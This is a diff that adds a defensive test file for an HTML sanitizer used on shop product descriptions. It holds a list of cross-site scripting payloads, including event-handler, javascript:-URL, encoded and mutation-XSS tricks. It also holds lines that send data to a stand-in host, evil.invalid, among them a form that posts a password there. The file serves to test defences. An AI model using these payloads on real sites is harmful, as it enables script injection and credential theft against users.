@@ -1,0 +1,88 @@
+import fc from 'fast-check';
+import { sanitizeHtml } from './sanitize-html';
+
+/** Elements and attributes that may come out, as the browser reads them. */
+const harmlessElements = new Set(
+  'a b blockquote br caption code dd div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img li ol p pre s small span strong sub sup table tbody td tfoot th thead tr u ul'.split(' '),
+);
+const harmlessAttributes = new Set(['href', 'title', 'src', 'alt', 'width', 'height', 'colspan', 'rowspan', 'scope']);
+
+function inBrowser(html: string) {
+  const root = document.createElement('div');
+  root.innerHTML = html;
+  return root;
+}
+
+function expectHarmless(html: string) {
+  for (const element of inBrowser(html).querySelectorAll('*')) {
+    expect(harmlessElements).toContain(element.localName);
+    for (const { name, value } of element.attributes) {
+      expect(harmlessAttributes).toContain(name);
+      if (name === 'href' || name === 'src') {
+        const url = new URL(value, 'https://shop.invalid/');
+        expect(['http:', 'https:', 'mailto:', 'tel:', 'ftp:']).toContain(url.protocol);
+      }
+    }
+  }
+}
+
+it('keeps what a description needs', () => {
+  const html =
+    '<h3>Care</h3><p>Soft <strong>fleece</strong>, <em>320 g</em>.<br></p><ul><li>Wash cold</li></ul>' +
+    '<table><tbody><tr><th scope="row">Fit</th><td colspan="2">Regular</td></tr></tbody></table>' +
+    '<a href="https://shop.invalid/pages/help-center" title="Help">Help</a><img src="/a.webp" alt="Front" width="4" height="5">';
+  expect(inBrowser(sanitizeHtml(html)).innerHTML).toBe(html);
+});
+
+it('keeps the text of elements that it takes away', () => {
+  expect(inBrowser(sanitizeHtml('<article class="x"><p style="color:red" id="root">Warm</p></article>')).innerHTML).toBe('<p>Warm</p>');
+});
+
+it.each([
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.invalid></sCrIpT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)"/>',
+  '<svg/onload=alert(1)>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href=" java\nscript:alert(1)">x</a>',
+  '<a href="java&#115;cript:alert(1)">x</a>',
+  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<form action="https://evil.invalid"><input name=password><button>Go</button></form>',
+  '<base href="https://evil.invalid/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.invalid">',
+  '<link rel="stylesheet" href="https://evil.invalid/x.css">',
+  '<style>body{display:none}</style>',
+  '<template><script>alert(1)</script></template>',
+  '<textarea></textarea><script>alert(1)</script>',
+  '<title></title><img src=x onerror=alert(1)>',
+  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
+  '<a href="https://x" onclick="alert(1)" style="position:fixed">x</a>',
+  '<div id="kith-page">{}</div>',
+  '<img src="//evil.invalid/track.gif">',
+  '<img src="/\\evil.invalid/track.gif">',
+  '<<script>alert(1)//<</script>',
+  '<p title="a" <img src=x onerror=alert(1)>>',
+])('makes %s harmless', (hostile) => {
+  const safe = sanitizeHtml(hostile);
+  expectHarmless(safe);
+  expect(inBrowser(safe).querySelector('[src*="evil"]')).toBeNull();
+});
+
+it('lets nothing through, however pieces are put together', () => {
+  const piece = fc.constantFrom(
+    '<', '>', '"', "'", '/', '=', ' ', '<p', '<img', '<a', ' href=', ' src=', 'javascript:', ' onerror=', 'alert(1)', '<script>',
+    '</script>', '<svg', '<style>', '<!--', '-->', '&#106;', '&colon;', '\n', '\t', '\u0000', '`', 'x', '</p>', '<table><td>', 'data:',
+  );
+  fc.assert(fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => expectHarmless(sanitizeHtml(pieces.join('')))), { numRuns: 600 });
+});
